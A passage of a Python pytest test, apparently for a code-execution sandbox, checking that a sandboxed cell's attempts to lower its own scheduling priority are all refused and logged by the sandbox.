    with Sandbox(Policy(cell_timeout=20, allow_processes=processes)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        before = os.getpriority(os.PRIO_PROCESS, 0)
        run = box.run_cell(LOWERS_ITS_PRIORITY, "lowers its priority")
        box.close()
        report, isolation = box.behaviour(), box.isolation
    names = ("SCHED_IDLE", "SCHED_BATCH", "nice", "setpriority", "sched_setparam")
    assert run.ok and run.stdout.split() == [f"{name}:refused" for name in names] + ["True", str(before)], run
    assert any("no scheduling class or priority of its own" in line for line in isolation), isolation
    if any("refused calls counted by the keeper" in line for line in isolation):
        assert report["refused"].get("sched_setscheduler (its scheduling or priority)", 0) >= 2, report
        assert report["refused"].get("setpriority (its scheduling or priority)", 0) >= 2, report
